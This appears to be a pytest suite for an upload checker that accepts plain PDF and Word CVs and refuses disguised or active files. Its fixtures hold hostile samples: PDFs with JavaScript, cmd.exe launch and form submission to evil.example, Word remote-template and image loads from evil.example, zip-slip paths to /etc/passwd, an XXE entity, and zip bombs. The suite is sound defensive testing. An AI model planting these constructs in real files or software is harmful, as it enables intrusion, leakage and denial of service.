"""Uploads: a plain PDF or Word document is recognised, whatever pretends to be one is refused."""

import io
import struct
import zipfile

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from app import sniffing
from app.errors import Invalid
from app.sniffing import DOCX, PDF, recognise_document
from tests.factories.documents import docx_bytes, pdf_bytes, with_object_streams
from tests.factories.word import OFFICE, content_types, relations, word_bytes

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def refusal(name: str, content: bytes) -> str:
    with pytest.raises(Invalid) as caught:
        recognise_document(name, content)
    return caught.value.message


@pytest.mark.parametrize(
    "name", ["cv.pdf", "CV.PDF", "Jane Doe résumé 2026.v2.pdf", "jane@mail.com.pdf"]
)
def test_a_pdf_is_recognised(name):
    assert recognise_document(name, pdf_bytes()) == PDF


@pytest.mark.parametrize("name", ["cv.docx", "Lebenslauf.DOCX"])
def test_a_word_document_is_recognised(name):
    assert recognise_document(name, docx_bytes()) == DOCX


@pytest.mark.parametrize(
    "name",
    ["cv", "cv.doc", "cv.txt", "cv.rtf", "cv.pdf.exe", "cv.pdf.", "cv.docm", ".pdf",
     "cv.pdf\x00.exe", "cv\x00.pdf", "cv.pdf ", ""],
)  # fmt: skip
def test_another_extension_is_refused_with_what_to_send_instead(name):
    assert "PDF or a Word document" in refusal(name, pdf_bytes())


@pytest.mark.parametrize("name", ["cv.exe.pdf", "cv.js.docx", "cv.html.pdf", "cv.SVG.pdf"])
def test_a_second_extension_that_runs_is_refused(name):
    assert "two extensions" in refusal(name, pdf_bytes())


def test_an_empty_file_is_refused():
    assert refusal("cv.pdf", b"") == "The file is empty."


@pytest.mark.parametrize(
    "content",
    [
        EICAR,
        b"MZ\x90\x00" + b"\x00" * 500,
        b"<html><script>alert(1)</script></html>",
        b"\x7fELF" + b"\x00" * 100,
        b"GIF89a%PDF-1.7" + pdf_bytes(),
        b"<script>alert(1)</script>" + pdf_bytes(),
        docx_bytes(),
    ],
    ids=["eicar", "exe", "html", "elf", "gif-pdf", "html-pdf", "docx"],
)
def test_what_is_not_a_pdf_from_its_first_byte_is_refused(content):
    assert "not a PDF" in refusal("cv.pdf", content)


def test_a_pdf_that_is_an_archive_too_is_refused():
    assert "not a PDF" in refusal("cv.pdf", pdf_bytes() + docx_bytes())


@pytest.mark.parametrize("tail", [b"<html><script>alert(1)</script>", b"MZ\x90\x00" * 1000])
def test_a_pdf_with_something_after_its_end_is_refused(tail):
    assert "damaged" in refusal("cv.pdf", pdf_bytes() + tail)


def test_blank_space_after_the_end_of_a_pdf_is_nothing():
    assert recognise_document("cv.pdf", pdf_bytes() + b"\r\n\x00\x00\n") == PDF


@pytest.mark.parametrize(
    "content",
    [b"%PDF-1.7\n%%EOF", b"%PDF-", pdf_bytes()[:200], b"%PDF-1.4\n" + b"A" * 10_000 + b"%%EOF"],
    ids=["nothing", "header", "cut", "noise"],
)
def test_a_damaged_pdf_is_refused(content):
    assert "damaged" in refusal("cv.pdf", content)


def test_noise_in_a_pdf_never_raises_anything_but_a_refusal():
    sound = pdf_bytes(2)
    for position in range(0, len(sound), 7):
        broken = sound[:position] + b"\xff<<(/" + sound[position + 5 :]
        try:
            recognise_document("cv.pdf", broken)
        except Invalid:
            continue


def test_a_pdf_with_a_password_is_refused():
    content = pdf_bytes(change=lambda writer: writer.encrypt("secret", algorithm="RC4-128"))
    assert "password" in refusal("cv.pdf", content)


@pytest.mark.parametrize("pages", [0, sniffing.MAX_PAGES + 1])
def test_a_pdf_has_a_page_and_not_too_many(pages):
    assert f"The PDF has {pages} pages" in refusal("cv.pdf", pdf_bytes(pages))


def _root(writer: PdfWriter, **entries) -> None:
    for key, value in entries.items():
        writer._root_object[NameObject(f"/{key}")] = value


def _action(kind: str, **more) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(f"/{kind}")})
    for key, value in more.items():
        action[NameObject(f"/{key}")] = value
    return action


def _on_page(writer: PdfWriter, annotation: DictionaryObject) -> None:
    writer.pages[0][NameObject("/Annots")] = ArrayObject([annotation])


def _named_through_another_object(writer: PdfWriter) -> None:
    action = DictionaryObject()
    action[NameObject("/S")] = writer._add_object(NameObject("/Launch"))
    _root(writer, OpenAction=writer._add_object(action))


ACTIVE = {
    "script of the document": lambda w: _root(w, Names=DictionaryObject(
        {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): ArrayObject()})}
    )),
    "script on opening": lambda w: _root(
        w, OpenAction=_action("JavaScript", JS=TextStringObject("app.alert(1)"))
    ),
    "script by reference": lambda w: _root(
        w, OpenAction=w._add_object(_action("JavaScript", JS=TextStringObject("app.alert(1)")))
    ),
    "attachment": lambda w: w.add_attachment("payload.exe", b"MZ"),
    "launch": lambda w: _root(w, OpenAction=_action("Launch", F=TextStringObject("cmd.exe"))),
    "launch through another object": _named_through_another_object,
    "form that is sent": lambda w: _root(w, AA=DictionaryObject(
        {NameObject("/WC"): _action("SubmitForm", F=TextStringObject("http://evil.example"))}
    )),
    "leap into another file": lambda w: _root(
        w, OpenAction=_action("GoToR", F=TextStringObject("//evil.example/share/x.pdf"))
    ),
    "xfa": lambda w: _root(
        w, AcroForm=DictionaryObject({NameObject("/XFA"): TextStringObject("<xdp/>")})
    ),
    "annotation with a script": lambda w: _on_page(
        w, DictionaryObject({NameObject("/A"): _action("JavaScript")})
    ),
    "annotation with a file": lambda w: _on_page(
        w, DictionaryObject({NameObject("/Subtype"): NameObject("/FileAttachment")})
    ),
    "rich media": lambda w: _on_page(
        w, DictionaryObject({NameObject("/Subtype"): NameObject("/RichMedia")})
    ),
}  # fmt: skip


@pytest.mark.parametrize("change", ACTIVE.values(), ids=ACTIVE.keys())
def test_a_pdf_that_does_more_than_show_pages_is_refused(change):
    assert "scripts or attachments" in refusal("cv.pdf", pdf_bytes(change=change))


def test_a_script_spelled_with_escapes_is_still_a_script():
    plain = pdf_bytes(change=ACTIVE["script on opening"])
    escaped = plain.replace(b"/JS", b"/#4a#53").replace(b"/JavaScript", b"/J#61vaScript")
    assert b"/JS" not in escaped
    assert "scripts" in refusal("cv.pdf", escaped) or "damaged" in refusal("cv.pdf", escaped)


def test_a_script_inside_a_compressed_object_stream_is_found():
    content = with_object_streams(pdf_bytes(change=ACTIVE["script by reference"]))
    assert b"/JS" not in content
    assert len(PdfReader(io.BytesIO(content)).xref_objStm) > 2
    assert "scripts" in refusal("cv.pdf", content)


def test_a_pdf_of_countless_objects_is_refused():
    table = b"".join(b"%010d 00000 n \n" % 9 for _ in range(sniffing.MAX_OBJECTS + 2))
    content = pdf_bytes()
    at = len(content)
    content += b"xref\n0 %d\n" % (sniffing.MAX_OBJECTS + 2) + table
    content += b"trailer\n<</Size 99999/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % at
    assert "damaged" in refusal("cv.pdf", content)


# --- Word ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        pdf_bytes(),
        EICAR,
        b"PK\x03\x04" + b"\x00" * 100,
        docx_bytes(without=("word/document.xml",)),
        docx_bytes(without=("[Content_Types].xml",)),
        docx_bytes() + b"<script>alert(1)</script>",
        b"MZ\x90\x00" + docx_bytes(),
        docx_bytes()[:-10],
    ],
    ids=["pdf", "eicar", "stub", "no-text", "no-types", "tail", "head", "cut"],
)
def test_what_is_not_a_word_document_is_refused(content):
    assert "not a Word document" in refusal("cv.docx", content)


@pytest.mark.parametrize(
    "member",
    ["../../etc/passwd", "/etc/passwd", "word/../../x", "..\\..\\x.dll", "word\\document.xml"],
)
def test_a_member_that_leads_out_of_the_archive_is_refused(member):
    assert "not a Word document" in refusal("cv.docx", docx_bytes({member: "x"}))


@pytest.mark.parametrize(
    "member",
    ["word/vbaProject.bin", "word/VBAPROJECT.BIN", "word/vbaProjectSignature.bin",
     "word/embeddings/oleObject1.bin", "word/activeX/activeX1.xml"],
)  # fmt: skip
def test_a_document_with_macros_or_embedded_files_is_refused(member):
    assert "macros or embedded files" in refusal("cv.docx", docx_bytes({member: "x"}))


def test_a_document_as_word_saves_it_is_recognised():
    assert recognise_document("cv.docx", word_bytes()) == DOCX


RELATIONS = "word/_rels/document.xml.rels"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships/"


@pytest.mark.parametrize("kind", ["hyperlink", f"{STRICT}hyperlink"])
def test_a_link_that_a_person_follows_may_lead_anywhere(kind):
    linked = relations((kind, "https://example.com/portfolio?a=1#b"))
    assert recognise_document("cv.docx", word_bytes({RELATIONS: linked})) == DOCX


@pytest.mark.parametrize(
    "template", ["file:///C:\\Users\\Robin\\Resume.dotx", "file:///Users/robin/Resume.dotx"]
)
def test_a_document_made_from_a_template_on_the_writers_own_disk_is_taken(template):
    settings = relations(("attachedTemplate", template))
    content = word_bytes({"word/_rels/settings.xml.rels": settings})
    assert recognise_document("cv.docx", content) == DOCX


@pytest.mark.parametrize("mode", ["External", "external", " External ", "Elsewhere"])
@pytest.mark.parametrize(
    ("part", "kind", "target"),
    [
        ("word/_rels/settings.xml.rels", "attachedTemplate", "http://evil.example/x.dotm"),
        ("word/_rels/settings.xml.rels", "attachedTemplate", "file://evil.example/share/x.dotm"),
        ("word/_rels/settings.xml.rels", "attachedTemplate", "file:////evil.example/share/x.dotm"),
        ("word/_rels/settings.xml.rels", "attachedTemplate", "file:///%5C%5Cevil/share/x.dotm"),
        (RELATIONS, "image", "file:///C:/seen.png"),
        (RELATIONS, "image", "https://evil.example/seen.png"),
        (RELATIONS, f"{STRICT}frame", "https://evil.example/"),
        ("WORD/_RELS/FOOTER1.XML.RELS", "subDocument", "https://evil.example/x.docx"),
        ("_rels/.rels", "officeDocument", "https://evil.example/document.xml"),
    ],
)
def test_a_document_that_loads_something_from_elsewhere_is_refused(part, kind, target, mode):
    content = word_bytes({part: relations(("styles", "styles.xml"), (kind, target), mode=mode)})
    assert "from elsewhere" in refusal("cv.docx", content)


@pytest.mark.parametrize(
    "kind",
    ["aFChunk", f"{STRICT}aFChunk", f" {OFFICE}AFCHUNK\n", "oleObject", "package", "control",
     "http://schemas.microsoft.com/office/2006/relationships/vbaProject"],
)  # fmt: skip
@pytest.mark.parametrize("target", ["plain.xml", "https://evil.example/x"])
def test_a_part_that_is_another_document_or_program_is_refused_under_any_name(kind, target):
    content = word_bytes({RELATIONS: relations((kind, target)), "word/plain.xml": "<html/>"})
    assert "macros or embedded files" in refusal("cv.docx", content)


@pytest.mark.parametrize(
    "media_type",
    ["application/vnd.ms-word.document.macroEnabled.main+xml",
     "application/vnd.ms-word.template.MACROENABLEDTemplate.main+xml",
     "application/vnd.ms-office.vbaProject", "application/vnd.ms-office.activeX+xml",
     "application/vnd.openxmlformats-officedocument.oleObject"],
)  # fmt: skip
def test_what_a_part_is_declared_to_be_counts_and_not_its_name(media_type):
    declared = content_types([("/word/plain.xml", media_type)])
    as_default = declared.replace("image/png", media_type)
    for types in (declared, as_default):
        content = word_bytes({"[Content_Types].xml": types})
        assert "macros or embedded files" in refusal("cv.docx", content)


@pytest.mark.parametrize("part", ["[Content_Types].xml", "_rels/.rels", RELATIONS])
@pytest.mark.parametrize(
    "xml",
    ["", "<Types", "no XML", "<a/><b/>", "<a>&undeclared;</a>", b"\xff\xfe\x00",
     '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "<!DOCTYPE a><a/>"],
)  # fmt: skip
def test_a_document_whose_packaging_cannot_be_read_is_refused(part, xml):
    assert "Word document is damaged" in refusal("cv.docx", word_bytes({part: xml}))


def test_a_document_with_endless_packaging_is_refused_unread():
    content = word_bytes({RELATIONS: "<" + " " * sniffing.MAX_PACKAGING})
    assert "unpacks to far more" in refusal("cv.docx", content)


def test_a_zip_bomb_is_refused_without_unpacking_it():
    bomb = docx_bytes({"word/media/bomb.bin": bytes(sniffing.MAX_UNPACKED + 1)})
    assert len(bomb) < 200_000
    assert "unpacks to far more" in refusal("cv.docx", bomb)


def test_a_zip_bomb_that_lies_about_its_size_is_refused():
    size = 2_000_000
    bomb = docx_bytes({"word/media/bomb.bin": bytes(size)})
    lying = bomb.replace(struct.pack("<I", size), struct.pack("<I", 10))
    assert lying != bomb
    assert "not a Word document" in refusal("cv.docx", lying)


def test_a_document_of_countless_members_is_refused():
    crowd = {f"word/{n}.xml": "" for n in range(sniffing.MAX_MEMBERS)}
    assert "unpacks to far more" in refusal("cv.docx", docx_bytes(crowd))


def test_two_members_of_one_name_are_refused():
    out = io.BytesIO(docx_bytes())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("WORD/document.xml", "another text")
    assert "not a Word document" in refusal("cv.docx", out.getvalue())


def test_a_document_with_a_password_is_refused():
    content = bytearray(docx_bytes())
    at = content.rfind(b"PK\x01\x02")
    content[at + 8] |= 1
    assert "password" in refusal("cv.docx", bytes(content))


def test_a_document_with_a_wrong_checksum_is_refused():
    content = bytearray(docx_bytes({"word/styles.xml": "x" * 500}))
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
        crc = struct.pack("<I", archive.getinfo("word/styles.xml").CRC)
    broken = bytes(content).replace(crc, b"\x00\x01\x02\x03")
    assert "not a Word document" in refusal("cv.docx", broken)
